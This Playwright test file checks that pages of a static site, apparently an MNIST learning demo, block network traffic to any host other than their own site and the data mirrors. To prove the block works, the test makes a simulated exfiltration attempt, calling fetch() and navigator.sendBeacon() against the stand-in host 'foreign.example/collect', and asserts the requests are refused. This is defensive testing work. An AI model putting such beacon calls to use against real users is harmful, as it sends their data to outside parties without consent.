/** Nothing leaves this machine: the pages themselves say so, on a host that sends no security policy. */
import { staticSite } from './support/staticSite.ts';
import { expect, test } from './support/test.ts';

const FOREIGN = 'https://foreign.example/collect';
const MIRRORS = ['https://cdn.jsdelivr.net/gh/fgnt/mnist/x', 'https://raw.githubusercontent.com/fgnt/x'];

for (const [file, elsewhere] of [
  ['index.html', MIRRORS],
  ['index.html?v=1&view=compare', MIRRORS],
  ['learn.html', MIRRORS],
  ['lecture.html', MIRRORS],
  ['gallery.html', MIRRORS],
  ['embed.html', []],
] as const)
  test(`${file} connects to nobody but its own site and the mirrors of the data`, async ({
    page,
    problems,
  }) => {
    problems.allow(
      FOREIGN,
      'policy: connect-src',
      ...(file === 'embed.html' ? [...MIRRORS, 'icon.svg'] : []),
    );
    const site = await staticSite('/some/where/', { policy: '' });
    try {
      let reached = 0;
      await page.context().route(/foreign\.example|jsdelivr|githubusercontent/, (route) => {
        if (route.request().url() === FOREIGN) reached++;
        return route.fulfill({ body: 'data', headers: { 'Access-Control-Allow-Origin': '*' } });
      });
      await page.goto(`${site.url}${file}`);
      const said = await page.evaluate(
        async ({ foreign, mirrors, own }) => {
          const asked = async (address: string): Promise<string> =>
            fetch(address).then(
              (response) => response.text(),
              () => 'refused',
            );
          return {
            foreign: await asked(foreign),
            beacon: await new Promise<string>((resolve) => {
              addEventListener(
                'securitypolicyviolation',
                ({ violatedDirective }) => resolve(violatedDirective),
                {
                  once: true,
                },
              );
              navigator.sendBeacon(foreign, 'all that was learned');
            }),
            own: (await asked(own)) === 'refused' ? 'refused' : 'answered',
            mirrors: await Promise.all(mirrors.map(asked)),
          };
        },
        { foreign: FOREIGN, mirrors: MIRRORS, own: `${site.url}icon.svg` },
      );
      expect(said).toMatchObject({
        ...{ foreign: 'refused', beacon: 'connect-src' },
        own: elsewhere.length > 0 ? 'answered' : 'refused',
        mirrors: MIRRORS.map(() => (elsewhere.length > 0 ? 'data' : 'refused')),
      });
      expect(reached).toBe(0);
    } finally {
      await site.close();
    }
  });
